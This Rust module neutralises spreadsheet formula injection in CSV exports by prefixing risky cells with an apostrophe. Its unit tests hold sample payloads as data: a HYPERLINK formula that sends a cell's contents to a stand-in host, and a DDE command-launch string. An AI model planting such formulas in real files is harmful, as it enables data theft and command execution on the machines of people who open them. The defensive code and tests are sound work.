//! Every CSV the platform writes goes through here: a cell that a spreadsheet would take as a
//! formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage return — Excel and WPS run
//! `=HYPERLINK(…)` or DDE from such a cell) is written with a leading apostrophe, which makes
//! it text. xlsx exports write strings as strings and need nothing.

use crate::error::AppError;
use std::borrow::Cow;

/// The cell as written to CSV.
pub fn cell(s: &str) -> Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

/// A CSV in the making: UTF-8 with a BOM (Excel opens it as UTF-8), every cell neutralised.
pub struct Writer(csv::Writer<Vec<u8>>);

impl Default for Writer {
    fn default() -> Self {
        Self::new()
    }
}

impl Writer {
    pub fn new() -> Self {
        Writer(csv::Writer::from_writer(vec![0xEF, 0xBB, 0xBF]))
    }

    pub fn row<I, S>(&mut self, cells: I) -> Result<(), AppError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| cell(c.as_ref()).into_owned())
            .collect();
        self.0
            .write_record(&cells)
            .map_err(|e| AppError::Internal(e.to_string()))
    }

    pub fn finish(self) -> Result<Vec<u8>, AppError> {
        self.0
            .into_inner()
            .map_err(|e| AppError::Internal(e.to_string()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text() {
        for (given, written) in [
            (
                "=HYPERLINK(\"http://x/?\"&A2,\"点击\")",
                "'=HYPERLINK(\"http://x/?\"&A2,\"点击\")",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("张三", "张三"),
            ("3****************4", "3****************4"),
            ("", ""),
            ("2020-01-01", "2020-01-01"),
        ] {
            assert_eq!(cell(given), written, "{given:?}");
        }
        let mut w = Writer::new();
        w.row(["=1", "a"]).expect("row");
        let text = String::from_utf8(w.finish().expect("bytes")).expect("utf8");
        assert_eq!(text, "\u{feff}'=1,a\n");
    }
}
